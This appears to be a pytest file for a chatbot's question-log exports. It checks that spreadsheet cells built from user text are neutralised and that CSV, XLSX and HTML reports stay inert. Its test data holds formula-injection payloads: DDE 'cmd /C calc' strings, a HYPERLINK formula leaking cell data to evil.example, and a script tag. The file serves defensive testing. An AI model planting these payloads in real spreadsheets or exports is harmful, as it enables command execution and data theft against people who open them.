"""Spreadsheet cells built from user text (bot/questionlog/safe_cells.py), and `report` /
`review export` run on a generated corpus of hostile strings stored in a real SQLite log."""

from __future__ import annotations

import csv
import datetime as dt
import random
import re
from pathlib import Path
from typing import List

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from bot.cli import main as cli_main
from bot.questionlog import db, review
from bot.questionlog.broker import write_rows
from bot.questionlog.safe_cells import MAX_CELL_CHARS, clean_text, safe_cell, unquote
from tests.support.question_log import make_row
from tests.support.tiers import examples

DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
ILLEGAL = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\ufeff\ufffe\uffff\ud800-\udfff]"
)


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil.example","点我")', '\'=HYPERLINK("http://evil.example","点我")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "' =1+1"),
        ("\r=1+1", "'=1+1"),
        ("  =1", "'  =1"),
        ("＝1+1", "'＝1+1"),
        ("截止\x1b[31m时间", "截止[31m时间"),
        ("零\u200b宽\u202e反", "零宽反"),
        ("第一行\r\n第二行", "第一行\n第二行"),
        ("截止时间是哪天", "截止时间是哪天"),
        ("", ""),
        (42, 42),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_long_cells_fit_excel():
    assert len(safe_cell("问" * 100_000)) == MAX_CELL_CHARS


@pytest.mark.parametrize("text", ["=1+1", "-abc", "@x", "普通文字", "'引号开头", "'=1"])
def test_unquote_gives_back_what_safe_cell_protected(text):
    assert unquote(safe_cell(text)) == clean_text(text).replace("\t", " ")


@settings(max_examples=examples(400), deadline=None)
@given(st.text(max_size=80))
def test_any_text_becomes_an_inert_cell_openpyxl_accepts(text):
    cell = safe_cell(text)
    assert not cell.lstrip(" \u3000").startswith(DANGEROUS_START) or cell.startswith("'")
    assert not ILLEGAL.search(cell)
    sheet = Workbook().active
    sheet.append([cell])  # raises IllegalCharacterError on what Excel cannot store
    assert sheet["A1"].data_type == "s" or cell == ""


# -- hostile corpus through the real store ------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我领取补贴")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=1+1",
    "<script>alert(1)</script>",
    "截止时间\x1b[31m是哪天\x1b[0m",
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f问",
    "\u202e反转文字\u202c",
    "零\u200b宽\u200d字符\ufeff",
    "\ufffe\uffff非字符",
    "行一\r\n行二\r行三",
    '"引号",逗号,"""',
    "食堂几点开饭",
    "😀表情🎉",
]
PREFIXES = ["", "=", "+", "-", "@", "\t", "\r", "\n", " =", "\t=", "＝", "'"]


def hostile_corpus(size: int, seed: int = 20261126) -> List[str]:
    rng = random.Random(seed)
    corpus = [prefix + payload for prefix in PREFIXES for payload in PAYLOADS[:6]]
    while len(corpus) < size:
        parts = rng.sample(PAYLOADS, rng.randint(1, 3))
        corpus.append(rng.choice(PREFIXES) + "".join(parts))
    corpus.append("=" + "A" * 40_000)  # longer than an Excel cell
    return corpus


@pytest.fixture
def hostile_log(tmp_path):
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    when = dt.datetime(2026, 11, 2, 3, 0)
    rows = []
    for number, text in enumerate(hostile_corpus(300)):
        rows.append(
            make_row(
                when + dt.timedelta(seconds=number),
                f"h{number}",
                topic="fallback",
                text=text,
                sender_id=f"re_{number % 7}",
                channel=["rest", "wechat", text[:40]][number % 3],
                reply=text,
            )
        )
    for number, slots in enumerate(["{not json", "[1, 2]", '"text"', "=1+1"]):  # written by hand
        rows.append(
            make_row(when, f"s{number}", text="自测", selfcheck_event="complete", slots=slots)
        )
    assert write_rows(rows, url) == len(rows)
    yield url
    db.dispose(url)


def assert_inert(value: object, where: str) -> None:
    if not isinstance(value, str):
        return
    assert not value.lstrip(" \u3000").startswith(DANGEROUS_START), (where, value[:60])
    assert not ILLEGAL.search(value), (where, value[:60])


def assert_workbook_inert(path: Path) -> int:
    workbook = load_workbook(path)
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert_inert(cell.value, f"{sheet.title}!{cell.coordinate}")
                seen += 1
    return seen


ARGS = ["--since", "2026-11-01", "--until", "2026-11-30"]


def test_report_csv_from_hostile_text_is_inert(hostile_log, knowledge_copy, tmp_path):
    out = tmp_path / "report.csv"
    assert (
        cli_main(
            [
                "report",
                *ARGS,
                "--database-url",
                hostile_log,
                "--knowledge-dir",
                str(knowledge_copy),
                "--out",
                str(out),
            ]
        )
        == 0
    )
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert len(cells) > 100
    for cell in cells:
        assert_inert(cell, "csv")
    assert any(re.match(r"'=+hyperlink", cell.lower()) for cell in cells)  # readable, not live


def test_report_xlsx_from_hostile_text_is_inert(hostile_log, knowledge_copy, tmp_path):
    out = tmp_path / "report.xlsx"
    assert (
        cli_main(
            [
                "report",
                *ARGS,
                "--database-url",
                hostile_log,
                "--knowledge-dir",
                str(knowledge_copy),
                "--out",
                str(out),
            ]
        )
        == 0
    )
    assert assert_workbook_inert(out) > 100


def test_report_html_from_hostile_text_is_escaped(hostile_log, knowledge_copy, tmp_path):
    out = tmp_path / "report.html"
    assert (
        cli_main(
            [
                "report",
                *ARGS,
                "--database-url",
                hostile_log,
                "--knowledge-dir",
                str(knowledge_copy),
                "--out",
                str(out),
            ]
        )
        == 0
    )
    page = out.read_text(encoding="utf-8")
    assert "<script>alert" not in page and "&lt;script&gt;" in page
    assert not ILLEGAL.search(page.replace("\n", ""))


def test_review_export_from_hostile_text_is_inert_and_round_trips(
    hostile_log, knowledge_copy, tmp_path
):
    out = tmp_path / "review.xlsx"
    args = [
        "export",
        "--out",
        str(out),
        *ARGS,
        "--database-url",
        hostile_log,
        "--knowledge-dir",
        str(knowledge_copy),
    ]
    assert cli_main(["review", *args]) == 0
    assert assert_workbook_inert(out) > 100
    # staff pick a formula-looking group: the import sees the text, not the added quote
    workbook = load_workbook(out)
    sheet = workbook[review.SHEET]
    header = [c.value for c in sheet[1]]
    key_col, choice_col = header.index("代表问法"), header.index("处理方式")
    row = next(
        r
        for r in sheet.iter_rows(min_row=2)
        if re.match(r"'=+hyperlink", str(r[key_col].value).lower())
    )
    row[choice_col].value = review.ADD_SIMILAR
    workbook.save(out)
    edits, _, problems = review.read_decisions(out)
    assert problems == []
    assert re.match(r"=+hyperlink", edits[0].questions[0].lower()), edits[0].questions
